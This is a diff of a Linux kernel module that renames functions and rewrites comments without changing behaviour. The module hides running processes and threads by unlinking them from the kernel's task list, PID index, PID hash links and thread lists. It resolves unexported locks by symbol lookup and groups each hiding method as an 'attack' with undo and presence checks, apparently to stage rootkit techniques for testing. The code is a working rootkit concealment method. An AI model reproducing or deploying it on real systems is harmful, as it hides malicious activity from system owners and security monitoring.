@@ -1,10 +1,10 @@
 // SPDX-License-Identifier: GPL-2.0-only
 /*
- * A process or a thread taken out of the structures by which Linux finds it,
- * while it runs on.
+ * Removes a running process or thread from the structures by which Linux finds
+ * it.
  *
- * What is taken out ends up linked to itself: it may exit meanwhile, and then
- * takes itself out once more.
+ * A removed node ends up linked to itself, since the task may exit meanwhile
+ * and unlink the node once more.
  */
 #include <linux/idr.h>
 #include <linux/kernel.h>
@@ -20,7 +20,7 @@
 
 /* Neither is exported. */
 static rwlock_t *tasks_lock;
-static spinlock_t *numbers_lock;
+static spinlock_t *pids_lock;
 
 /* Before 6.7, threads were in two lists. */
 #if LINUX_VERSION_CODE < KERNEL_VERSION(6, 7, 0)
@@ -52,15 +52,15 @@ static bool has_task(struct pid *pid, enum pid_type type, struct task_struct *ta
 	return false;
 }
 
-/* Readers without a lock, standing on the entry, still find their way on. */
-static void take_out(struct list_head *entry)
+/* Keeps the entry's own pointers: a lockless reader may be on the entry. */
+static void unlink_entry(struct list_head *entry)
 {
 	WRITE_ONCE(entry->prev->next, entry->next);
 	entry->next->prev = entry->prev;
 }
 
-/* Not put back meanwhile, and not gone: linked to itself. */
-static void close_up(struct list_head *entry, struct list_head *list)
+/* Links an entry to itself, unless it was put back meanwhile. */
+static void self_link(struct list_head *entry, struct list_head *list)
 {
 	if (!is_in(entry, list))
 		INIT_LIST_HEAD(entry);
@@ -71,20 +71,20 @@ static bool alive(struct task_struct *task)
 	return task->thread_pid && task->sighand;
 }
 
-/* The task with number @argument in the first namespace: a process, or a thread that is not its first. */
+/* The task with PID @argument in the initial namespace: the first thread of a process if @process, else another one. */
 static int find(struct hidden *hidden, char *argument, bool process)
 {
-	pid_t number;
+	pid_t pid;
 
-	if (kstrtoint(argument, 10, &number) || number < 2)
+	if (kstrtoint(argument, 10, &pid) || pid < 2)
 		return -EINVAL;
 	if (!tasks_lock) {
-		numbers_lock = (spinlock_t *)symbol("pidmap_lock");
+		pids_lock = (spinlock_t *)symbol("pidmap_lock");
 		tasks_lock = (rwlock_t *)symbol("tasklist_lock");
 	}
-	if (!tasks_lock || !numbers_lock)
+	if (!tasks_lock || !pids_lock)
 		return -ENOENT;
-	hidden->pid = find_get_pid(number);
+	hidden->pid = find_get_pid(pid);
 	hidden->task = get_pid_task(hidden->pid, PIDTYPE_PID);
 	if (hidden->task && thread_group_leader(hidden->task) == process)
 		return 0;
@@ -100,21 +100,21 @@ static void forget(struct hidden *hidden)
 	put_pid(hidden->pid);
 }
 
-static void tell(struct attack *attack, struct task_struct *task)
+static void set_target(struct attack *attack, struct task_struct *task)
 {
 	snprintf(attack->about, sizeof(attack->about), "%s (%d)", task->comm,
 		 task_pid_nr(task));
 }
 
-static void show_task(struct task_struct *task)
+static void relink_task(struct task_struct *task)
 {
 	if (!is_in(&task->tasks, &init_task.tasks))
 		list_add_tail_rcu(&task->tasks, &init_task.tasks);
 }
 
 /*
- * Tampers by @how under the lock, with interrupts off; then, when no reader
- * stands on what was taken out, closes it up by @after.
+ * Calls @how under the lock with interrupts off to unlink the task; then, when
+ * no reader is on the unlinked nodes, @after to link them to themselves.
  */
 static int hide(struct attack *attack, struct hidden *hidden,
 		void (*how)(struct hidden *hidden), void (*after)(struct hidden *hidden))
@@ -123,7 +123,7 @@ static int hide(struct attack *attack, struct hidden *hidden,
 	unsigned long flags;
 	bool was_alive;
 
-	tell(attack, task);
+	set_target(attack, task);
 	local_irq_save(flags);
 	write_lock(tasks_lock);
 	was_alive = alive(task);
@@ -147,17 +147,17 @@ static int hide(struct attack *attack, struct hidden *hidden,
 	return 0;
 }
 
-/* The list of all tasks only. */
+/* hide-list: the process list only. */
 static struct hidden from_list;
 
 static void list_how(struct hidden *hidden)
 {
-	take_out(&hidden->task->tasks);
+	unlink_entry(&hidden->task->tasks);
 }
 
 static void list_after(struct hidden *hidden)
 {
-	close_up(&hidden->task->tasks, &init_task.tasks);
+	self_link(&hidden->task->tasks, &init_task.tasks);
 }
 
 static int list_begin(struct attack *attack, char *argument)
@@ -181,7 +181,7 @@ static void list_undo(struct attack *attack)
 {
 	write_lock_irq(tasks_lock);
 	if (alive(from_list.task))
-		show_task(from_list.task);
+		relink_task(from_list.task);
 	write_unlock_irq(tasks_lock);
 	forget(&from_list);
 }
@@ -193,20 +193,20 @@ struct attack hide_list = {
 	.present = list_present,
 };
 
-/* The list of all tasks, the number's slot, and the number's lists of tasks and processes. */
+/* hide-list-pid: the process list, the PID's slot in the index, and the PID's lists of threads and processes. */
 static struct hidden from_pid;
 
 static void set_slot(struct pid *pid, struct pid *from, struct pid *to)
 {
-	struct upid *number = &pid->numbers[0];
+	struct upid *upid = &pid->numbers[0];
 
-	spin_lock(numbers_lock);
-	if (idr_find(&init_pid_ns.idr, number->nr) == from)
-		idr_replace(&init_pid_ns.idr, to, number->nr);
-	spin_unlock(numbers_lock);
+	spin_lock(pids_lock);
+	if (idr_find(&init_pid_ns.idr, upid->nr) == from)
+		idr_replace(&init_pid_ns.idr, to, upid->nr);
+	spin_unlock(pids_lock);
 }
 
-static void take_pid_link(struct hlist_node *node)
+static void unlink_pid(struct hlist_node *node)
 {
 	WRITE_ONCE(*node->pprev, node->next);
 	if (node->next)
@@ -217,13 +217,13 @@ static void pid_how(struct hidden *hidden)
 {
 	struct task_struct *task = hidden->task;
 
-	take_out(&task->tasks);
+	unlink_entry(&task->tasks);
 	set_slot(hidden->pid, hidden->pid, NULL);
-	take_pid_link(&task->pid_links[PIDTYPE_PID]);
-	take_pid_link(&task->pid_links[PIDTYPE_TGID]);
+	unlink_pid(&task->pid_links[PIDTYPE_PID]);
+	unlink_pid(&task->pid_links[PIDTYPE_TGID]);
 }
 
-static void close_pid_link(struct hidden *hidden, enum pid_type type)
+static void self_link_pid(struct hidden *hidden, enum pid_type type)
 {
 	struct hlist_node *node = &hidden->task->pid_links[type];
 
@@ -235,9 +235,9 @@ static void close_pid_link(struct hidden *hidden, enum pid_type type)
 
 static void pid_after(struct hidden *hidden)
 {
-	close_up(&hidden->task->tasks, &init_task.tasks);
-	close_pid_link(hidden, PIDTYPE_PID);
-	close_pid_link(hidden, PIDTYPE_TGID);
+	self_link(&hidden->task->tasks, &init_task.tasks);
+	self_link_pid(hidden, PIDTYPE_PID);
+	self_link_pid(hidden, PIDTYPE_TGID);
 }
 
 static int pid_begin(struct attack *attack, char *argument)
@@ -267,7 +267,7 @@ static bool pid_present(struct attack *attack)
 	return present;
 }
 
-static void show_pid_link(struct hidden *hidden, enum pid_type type)
+static void relink_pid(struct hidden *hidden, enum pid_type type)
 {
 	if (!has_task(hidden->pid, type, hidden->task))
 		hlist_add_head_rcu(&hidden->task->pid_links[type], &hidden->pid->tasks[type]);
@@ -277,10 +277,10 @@ static void pid_undo(struct attack *attack)
 {
 	write_lock_irq(tasks_lock);
 	if (alive(from_pid.task)) {
-		show_pid_link(&from_pid, PIDTYPE_PID);
-		show_pid_link(&from_pid, PIDTYPE_TGID);
+		relink_pid(&from_pid, PIDTYPE_PID);
+		relink_pid(&from_pid, PIDTYPE_TGID);
 		set_slot(from_pid.pid, NULL, from_pid.pid);
-		show_task(from_pid.task);
+		relink_task(from_pid.task);
 	}
 	write_unlock_irq(tasks_lock);
 	forget(&from_pid);
@@ -293,14 +293,14 @@ struct attack hide_list_pid = {
 	.present = pid_present,
 };
 
-/* The lists of its process's threads. */
+/* hide-thread: the thread lists of its process. */
 static struct hidden from_process;
 
 static void thread_how(struct hidden *hidden)
 {
-	take_out(&hidden->task->thread_node);
+	unlink_entry(&hidden->task->thread_node);
 #ifdef GROUP_LIST
-	take_out(&hidden->task->thread_group);
+	unlink_entry(&hidden->task->thread_group);
 #endif
 }
 
@@ -308,9 +308,9 @@ static void thread_after(struct hidden *hidden)
 {
 	struct task_struct *task = hidden->task;
 
-	close_up(&task->thread_node, &task->signal->thread_head);
+	self_link(&task->thread_node, &task->signal->thread_head);
 #ifdef GROUP_LIST
-	close_up(&task->thread_group, &task->group_leader->thread_group);
+	self_link(&task->thread_group, &task->group_leader->thread_group);
 #endif
 }
 
